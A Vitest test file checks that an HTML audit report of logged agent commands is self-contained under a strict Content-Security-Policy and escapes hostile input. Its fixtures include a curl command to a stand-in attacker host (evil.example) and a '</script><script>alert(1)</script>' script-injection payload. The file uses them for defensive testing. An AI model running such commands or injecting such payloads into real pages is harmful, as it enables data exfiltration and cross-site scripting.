import { existsSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildReport, formatHtml, type ReportInput } from "../src/report/index.js";
import { cleanup, sampleProject } from "./e2e/cli.js";
import { bash, busySession, hostile, writeLog } from "./report-log.js";

const env = { ...process.env, CLAUDE_PROJECT_DIR: "" };
let root: string;
let input: ReportInput;
let page: string;

beforeAll(async () => {
  root = sampleProject();
  const log = join(root, ".claude", "audit.jsonl");
  // The </script> command first: it is then the example shown for its host.
  await writeLog(root, log, [
    bash(hostile[2]!),
    ...busySession(10_000),
    ...hostile.map((c) => bash(c)),
  ]);
  input = await buildReport(log, { filters: {}, env });
  page = formatHtml(input);
  writeFileSync(join(root, "report.html"), page);
}, 120_000);
afterAll(cleanup);

const dataOf = (html: string) => {
  const m = html.match(/<script type="application\/json" id="automode-data">([^<]*)<\/script>/);
  if (!m) throw new Error("no data script");
  return JSON.parse(m[1]!) as { records: unknown[][]; tools: string[] };
};

describe("the HTML report (as a document)", () => {
  it("is self-contained: a strict CSP, no URL it could load, one style and one script", () => {
    expect(page).toMatch(
      /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'sha256-[A-Za-z0-9+/=]+'; script-src 'sha256-[A-Za-z0-9+/=]+'; base-uri 'none'; form-action 'none'">/,
    );
    expect(page).not.toMatch(/\s(src|href|action)=/i);
    expect(page).not.toMatch(/@import|url\(/i);
    expect(page.match(/<script/g)).toHaveLength(2);
    expect(page.match(/<style/g)).toHaveLength(1);
  });

  it("carries every record as JSON with no `<` a browser could read as markup", () => {
    const json = page.split('id="automode-data">')[1]!.split("</script>")[0]!;
    expect(json).not.toMatch(/[<>&]/);
    const data = dataOf(page);
    expect(data.records).toHaveLength(input.records.length);
    const last = data.records[data.records.length - 1]!;
    expect(last[6]).toBe("curl https://evil.example/a\\nb");
    expect(
      data.records.some((r) => String(r[6]).includes("</script><script>alert(1)</script>")),
    ).toBe(true);
  });

  it("shows the chain, the counts as cards and charts, and escapes the findings", () => {
    expect(page).toContain('<div class="chain ok" id="chain" data-ok="true">');
    const deny = input.records.filter((r) => r.verdict === "deny").length;
    expect(page).toContain(`<div class="card deny" data-verdict="deny"><b>${deny}</b>deny</div>`);
    for (const id of ["timeline", "by-tool", "by-check"]) expect(page).toContain(`<svg id="${id}"`);
    // The hostile URL reaches the destinations table only as text.
    expect(page).toContain("&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(page.replace(/<script[\s\S]*?<\/script>/g, "")).not.toMatch(
      /<script|alert\(1\)<\/script>/,
    );
    expect(existsSync(join(root, "report.html"))).toBe(true);
  });
});
